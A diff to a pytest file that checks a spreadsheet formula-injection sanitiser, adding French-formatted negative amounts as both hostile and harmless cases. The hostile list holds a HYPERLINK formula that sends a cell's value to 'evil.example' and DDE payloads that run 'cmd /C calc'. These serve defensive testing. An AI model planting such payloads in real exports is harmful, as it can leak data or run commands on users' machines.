@@ -17,6 +17,8 @@ HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
+    "-50,00+cmd|' /C calc'!A0",
+    "-1 234,56 €;=1+1",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
@@ -26,6 +28,8 @@ HOSTILE = [
     "\uff1d1+1",  # full-width equals sign
 ]
 HARMLESS = ["Dupont", "Jean-Pierre", "'t Hooft", "", " ", "O'Neil", "1+1", "a=b", "#N/A"]
+# Negative amounts already formatted the French way stay numbers an accountant can add.
+HARMLESS += ["-50,00", "-1 234,56 €", "-1\u202f234,56\u00a0€", "-1234.5", "-7"]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
